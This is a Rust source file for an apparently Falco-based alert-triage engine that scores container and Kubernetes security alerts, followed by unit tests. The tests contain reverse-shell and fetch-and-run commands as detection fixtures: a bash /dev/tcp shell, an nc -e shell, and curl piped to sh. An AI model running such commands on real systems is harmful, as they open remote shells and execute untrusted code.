//! The deterministic verdict: a score from the rule's base severity plus weighted facts about
//! the alert and its context, every fact kept as a reason naming the field behind it.
//!
//! Facts live in a table (`facts::FACTS`, weights and sources in kb/scoring.toml `[[fact]]`);
//! attack evidence on the alert itself is data (kb/evidence.toml). The kind: malicious at or
//! above `thresholds.malicious`; benign only with benign evidence (a signature, the rule's own
//! exclusion, routine prevalence), no attack evidence and a score below `thresholds.benign`;
//! else suspicious.

mod cache;
mod evidence;
pub(crate) mod facts;
mod prevalence;

pub use cache::{judge_from, JudgeCache, Statics};
pub use evidence::{
    check_entry, is_pseudo_field, pattern as evidence_pattern, read_entries, EvidenceEntry,
    EvidenceError, EvidenceSet, Hit, Scope, BUILTIN_TEXT as EVIDENCE_TEXT,
};
pub use facts::FactSpec;
pub use prevalence::{Prevalence, PrevalenceEntry};

use crate::kb::{KnowledgeBase, Rule, SignatureMatch};
use crate::scoring::Scoring;
use fa_model::{Alert, Confidence, Reason, Verdict, VerdictKind};

/// What the engine knows beyond the alert itself.
#[derive(Debug, Clone, Default)]
pub struct Context {
    /// Alerts so far with this alert's fingerprint (including it).
    pub cluster_count: u64,
    /// Set when the alert's container/pod/host shows tactics progressing: a description of it.
    pub escalating_incident: Option<String>,
    /// The rule's own condition evaluated over the alert (upstream and the user's rules files);
    /// shared, since every repeat of a cluster reads the same checks.
    pub rule_checks: std::sync::Arc<[crate::rulecheck::RuleCheck]>,
    /// The activity's history (within a run, or from the store); `None` = not known.
    pub prevalence: Option<Prevalence>,
    /// Set when an earlier alert on the same container/pod/host, within the correlation
    /// window, carried attack evidence: a description of it.
    /// Shared: every alert near the evidence reads the same text.
    pub entity_attack_evidence: Option<std::sync::Arc<str>>,
    /// Set when the alert runs a file an earlier alert of the same workload downloaded
    /// (crate::staging): a description of it.
    pub runs_download: Option<String>,
}

/// Reasons as they are found. Without `explain` only the score is kept: the engine judges
/// every alert of a storm but writes reasons only for the alerts it reports.
pub(crate) struct Reasons {
    explain: bool,
    list: Vec<Reason>,
    score: f32,
    /// The confidence of the strongest benign evidence found, if any.
    benign: Option<f32>,
    /// A fact that points at an attack in itself held (not mere context): see `decide`.
    grounded: bool,
}

impl Reasons {
    /// Mark the alert as showing an attack pattern by itself (a shell spawned by a web server).
    pub(crate) fn ground(&mut self) {
        self.grounded = true;
    }

    fn new(explain: bool) -> Self {
        Reasons {
            explain,
            list: Vec::new(),
            score: 0.0,
            benign: None,
            grounded: false,
        }
    }

    fn add(&mut self, field: Option<&str>, text: impl FnOnce() -> String, weight: f32) {
        self.score += weight;
        if self.explain {
            self.list.push(Reason {
                field: field.map(str::to_string),
                text: text(),
                weight,
            });
        }
    }

    /// Benign evidence with this confidence holds.
    fn support_benign(&mut self, confidence: f32) {
        self.benign = Some(self.benign.map_or(confidence, |c| c.max(confidence)));
    }
}

/// What the facts read: the alert, its rule and context, and what is found before the facts
/// run (benign signatures and attack evidence, which several facts and the kind depend on).
pub(crate) struct Subject<'a> {
    pub scoring: &'a Scoring,
    pub alert: &'a Alert,
    pub ctx: &'a Context,
    pub benign: Vec<SignatureMatch<'a>>,
    pub evidence: Vec<Hit<'a>>,
    /// A benign signature of kind `test` holds: Falco's own test tools simulate attacks.
    pub test_signature: bool,
    /// Attack evidence holds: evidence at least `thresholds.attack_evidence` heavy, not simulated.
    pub attack: bool,
}

impl<'a> Subject<'a> {
    pub(crate) fn new(
        kb: &'a KnowledgeBase,
        scoring: &'a Scoring,
        alert: &'a Alert,
        rule: Option<&'a Rule>,
        ctx: &'a Context,
    ) -> Self {
        let benign = kb.benign_matches(alert, rule);
        let evidence = scoring.evidence.find(alert);
        Self::from_parts(scoring, alert, ctx, benign, evidence)
    }

    /// A subject from signature matches and evidence found earlier (`JudgeCache`).
    pub(crate) fn from_parts(
        scoring: &'a Scoring,
        alert: &'a Alert,
        ctx: &'a Context,
        benign: Vec<SignatureMatch<'a>>,
        evidence: Vec<Hit<'a>>,
    ) -> Self {
        let test_signature = benign.iter().any(|m| m.kind == Some("test"));
        let attack = !test_signature
            && evidence
                .first()
                .is_some_and(|h| h.weight() >= scoring.thresholds.attack_evidence);
        Subject {
            scoring,
            alert,
            ctx,
            benign,
            evidence,
            test_signature,
            attack,
        }
    }
}

/// Score one alert. `rule` is its knowledge-base entry when there is one.
pub fn judge(
    kb: &KnowledgeBase,
    scoring: &Scoring,
    alert: &Alert,
    rule: Option<&Rule>,
    ctx: &Context,
) -> Verdict {
    judge_verdict(kb, scoring, alert, rule, ctx, true)
}

/// [`judge`] without the reasons: the same kind, confidence and score, and an empty `reasons`.
pub fn judge_score(
    kb: &KnowledgeBase,
    scoring: &Scoring,
    alert: &Alert,
    rule: Option<&Rule>,
    ctx: &Context,
) -> Verdict {
    judge_verdict(kb, scoring, alert, rule, ctx, false)
}

/// A verdict and what the engine keeps from how it was reached.
#[derive(Debug, Clone)]
pub struct Judgement {
    pub verdict: Verdict,
    /// Attack evidence (kb/evidence.toml, at least `thresholds.attack_evidence`) held: what the
    /// heaviest says. The engine remembers it for the activity and for its container/pod/host.
    pub attack_evidence: Option<String>,
}

/// [`judge`] (`explain`) or [`judge_score`] (not), with what else the engine needs.
pub fn judge_with(
    kb: &KnowledgeBase,
    scoring: &Scoring,
    alert: &Alert,
    rule: Option<&Rule>,
    ctx: &Context,
    explain: bool,
) -> Judgement {
    let subject = Subject::new(kb, scoring, alert, rule, ctx);
    conclude(scoring, alert, rule, &subject, explain)
}

/// The facts run over a subject, and the kind they add up to.
fn conclude(
    scoring: &Scoring,
    alert: &Alert,
    rule: Option<&Rule>,
    subject: &Subject<'_>,
    explain: bool,
) -> Judgement {
    let mut reasons = Reasons::new(explain);
    base(scoring, alert, rule, &mut reasons);
    for (i, f) in facts::FACTS.iter().enumerate() {
        (f.eval)(subject, &mut reasons, scoring.fact_bound(i));
    }
    let base_score = match rule {
        Some(r) => r.entry.severity as f32,
        None => scoring.priority_base(alert.priority_or_default()) + scoring.base.unknown_rule,
    };
    let (kind, confidence) = decide(scoring, rule.is_some(), base_score, subject, &reasons);
    Judgement {
        verdict: Verdict {
            kind,
            confidence: Confidence::new(confidence.min(0.95)),
            score: (reasons.score * 100.0).round() / 100.0,
            reasons: reasons.list,
        },
        attack_evidence: subject
            .attack
            .then(|| {
                subject
                    .evidence
                    .first()
                    .map(|h| h.evidence.entry.about.clone())
            })
            .flatten(),
    }
}

fn judge_verdict(
    kb: &KnowledgeBase,
    scoring: &Scoring,
    alert: &Alert,
    rule: Option<&Rule>,
    ctx: &Context,
    explain: bool,
) -> Verdict {
    judge_with(kb, scoring, alert, rule, ctx, explain).verdict
}

/// The score's base: the rule's knowledge-base severity, else its priority's default.
fn base(scoring: &Scoring, alert: &Alert, rule: Option<&Rule>, reasons: &mut Reasons) {
    match rule {
        Some(r) => reasons.add(
            Some("rule"),
            || {
                format!(
                    "rule `{}` has base severity {}/10 in the knowledge base",
                    r.entry.name, r.entry.severity
                )
            },
            r.entry.severity as f32,
        ),
        None => {
            let p = alert.priority_or_default();
            let unknown = scoring.base.unknown_rule;
            reasons.add(
                Some("priority"),
                || {
                    format!(
                        "rule `{}` is not in the knowledge base; its priority {p} sets the base score",
                        alert.rule
                    )
                },
                scoring.priority_base(p) + unknown,
            );
        }
    }
}

/// The kind and its confidence from the score and the evidence found.
fn decide(
    scoring: &Scoring,
    known_rule: bool,
    base_score: f32,
    s: &Subject<'_>,
    r: &Reasons,
) -> (VerdictKind, f32) {
    let t = &scoring.thresholds;
    let score = r.score;
    // Context (root, a terminal, a system namespace, a mutable tag) sharpens a suspicion but is
    // no evidence of an attack: malicious needs attack evidence on the alert, an escalation
    // around it (tactics progressing, attack evidence nearby), or a rule that describes an
    // attack by itself (its base severity alone reaches the threshold).
    let grounded = s.attack
        || r.grounded
        || s.ctx.escalating_incident.is_some()
        || s.ctx.entity_attack_evidence.is_some()
        || base_score >= t.malicious;
    if score >= t.malicious && grounded {
        // Evidence on the alert itself is surer than context adding up.
        let own = if s.attack { 0.1 } else { 0.0 };
        return (
            VerdictKind::Malicious,
            0.6 + own + 0.05 * (score - t.malicious),
        );
    }
    // Unknown-benign is never assumed: benign needs benign evidence, and no attack evidence
    // (the benign facts withhold their support when it holds).
    if let Some(c) = r.benign {
        if score < t.benign {
            return (VerdictKind::Benign, c);
        }
    }
    if !known_rule {
        (VerdictKind::Suspicious, 0.4)
    } else if score >= t.suspicious {
        (VerdictKind::Suspicious, 0.5 + 0.04 * (score - t.suspicious))
    } else {
        (VerdictKind::Suspicious, 0.35)
    }
}

/// The more severe of two verdicts: a later stage (an LLM, an incident) can raise, never lower.
pub fn raise(base: &Verdict, other: &Verdict) -> Verdict {
    if other.kind > base.kind {
        other.clone()
    } else {
        base.clone()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn setup() -> (KnowledgeBase, Scoring) {
        (
            KnowledgeBase::load(&[]).expect("kb loads"),
            Scoring::builtin().expect("scoring loads"),
        )
    }

    fn alert(rule: &str, priority: &str, fields: serde_json::Value) -> Alert {
        serde_json::from_value(
            json!({"rule": rule, "priority": priority, "output": "x", "output_fields": fields}),
        )
        .expect("valid alert")
    }

    fn one() -> Context {
        Context {
            cluster_count: 1,
            ..Default::default()
        }
    }

    /// Context adds up (root, a terminal, a system namespace, a mutable tag) but is no evidence:
    /// the score may pass the threshold while the verdict stays suspicious, until something
    /// grounds it (here a shell spawned by the web server).
    #[test]
    fn context_alone_never_makes_an_alert_malicious() {
        let (kb, s) = setup();
        let shell = |pname: &str| {
            alert(
                "Terminal shell in container",
                "Notice",
                json!({"proc.name": "bash", "proc.cmdline": "bash", "proc.pname": pname,
                    "proc.tty": 34816, "user.uid": 0, "k8s.ns.name": "falco",
                    "container.id": "0123456789ab", "container.image.tag": "latest"}),
            )
        };
        let a = shell("runc");
        let v = judge(&kb, &s, &a, kb.rule_for(&a), &one());
        assert!(v.score >= s.thresholds.malicious, "{v:#?}");
        assert_eq!(v.kind, VerdictKind::Suspicious, "{v:#?}");
        let b = shell("nginx");
        let v = judge(&kb, &s, &b, kb.rule_for(&b), &one());
        assert_eq!(v.kind, VerdictKind::Malicious, "{v:#?}");
    }

    #[test]
    fn clear_attack_evidence_is_malicious_on_its_own_even_under_a_mild_rule() {
        let (kb, s) = setup();
        let a = alert(
            "Redirect STDOUT/STDIN to Network Connection in Container",
            "Notice",
            json!({"proc.cmdline": "bash -c bash -i >& /dev/tcp/172.17.0.1/443 0>&1", "proc.name": "bash"}),
        );
        let rule = kb.rule_for(&a);
        let v = judge(&kb, &s, &a, rule, &one());
        assert_eq!(v.kind, VerdictKind::Malicious, "{v:#?}");
        assert!(v
            .reasons
            .iter()
            .any(|r| r.field.as_deref() == Some("proc.cmdline")));
        // A mild rule: malicious with the reverse shell, not with a look-alike.
        let shell = |cmd: &str| {
            alert(
                "Terminal shell in container",
                "Notice",
                json!({"proc.cmdline": cmd, "proc.name": "bash"}),
            )
        };
        let b = shell("bash -c bash -i >& /dev/tcp/172.17.0.1/443 0>&1");
        assert_eq!(
            judge(&kb, &s, &b, kb.rule_for(&b), &one()).kind,
            VerdictKind::Malicious
        );
        let c = shell("bash -c echo > /dev/tcp/db/5432");
        assert_ne!(
            judge(&kb, &s, &c, kb.rule_for(&c), &one()).kind,
            VerdictKind::Malicious
        );
    }

    #[test]
    fn score_only_judgement_agrees_with_the_full_one() {
        let (kb, s) = setup();
        for a in [
            alert(
                "Terminal shell in container",
                "Notice",
                json!({"proc.cmdline": "nc 1.2.3.4 4444 -e /bin/sh", "proc.name": "nc", "proc.tty": 34816}),
            ),
            alert(
                "Terminal shell in container",
                "Notice",
                json!({"proc.cmdline": "bash", "proc.name": "bash"}),
            ),
            alert("Something custom", "Warning", json!({})),
        ] {
            let rule = kb.rule_for(&a);
            let full = judge(&kb, &s, &a, rule, &one());
            let fast = judge_score(&kb, &s, &a, rule, &one());
            assert_eq!((full.kind, full.score), (fast.kind, fast.score));
            assert_eq!(full.confidence, fast.confidence);
            assert!(fast.reasons.is_empty());
            assert!(!full.reasons.is_empty());
        }
    }

    #[test]
    fn attack_evidence_forbids_benign_even_with_benign_evidence() {
        let (kb, s) = setup();
        let a = alert(
            "Disallowed K8s User",
            "Warning",
            json!({"ka.user.name": "eks:node-manager", "ka.uri.param[command]": "sh -c curl http://203.0.113.9/x | sh"}),
        );
        let c = Context {
            rule_checks: std::sync::Arc::new([crate::rulecheck::RuleCheck {
                origin: crate::rulecheck::RuleOrigin::Upstream,
                rule: "Disallowed K8s User".into(),
                fires: crate::rulecheck::Tri::False,
                excluded_by: vec![crate::rulecheck::Exclusion {
                    kind: crate::rulecheck::ExclusionKind::List,
                    name: "eks_allowed_k8s_users".into(),
                    field: Some("ka.user.name".into()),
                    value: Some("eks:node-manager".into()),
                }],
            }]),
            ..one()
        };
        let v = judge(&kb, &s, &a, kb.rule_for(&a), &c);
        assert_ne!(v.kind, VerdictKind::Benign, "{v:#?}");
        // Without the evidence the exclusion makes it benign.
        let b = alert(
            "Disallowed K8s User",
            "Warning",
            json!({"ka.user.name": "eks:node-manager"}),
        );
        let v = judge(&kb, &s, &b, kb.rule_for(&b), &c);
        assert_eq!(v.kind, VerdictKind::Benign, "{v:#?}");
        assert!(v
            .reasons
            .iter()
            .any(|r| r.field.as_deref() == Some("ka.user.name")));
    }

    #[test]
    fn without_benign_evidence_a_low_score_stays_suspicious() {
        let (kb, s) = setup();
        let a = alert("Something custom", "Debug", json!({}));
        assert_eq!(
            judge(&kb, &s, &a, None, &one()).kind,
            VerdictKind::Suspicious
        );
    }

    #[test]
    fn raise_never_lowers() {
        let v = |kind| Verdict {
            kind,
            confidence: Confidence::new(0.5),
            score: 1.0,
            reasons: vec![],
        };
        assert_eq!(
            raise(&v(VerdictKind::Malicious), &v(VerdictKind::Benign)).kind,
            VerdictKind::Malicious
        );
        assert_eq!(
            raise(&v(VerdictKind::Benign), &v(VerdictKind::Suspicious)).kind,
            VerdictKind::Suspicious
        );
    }
}
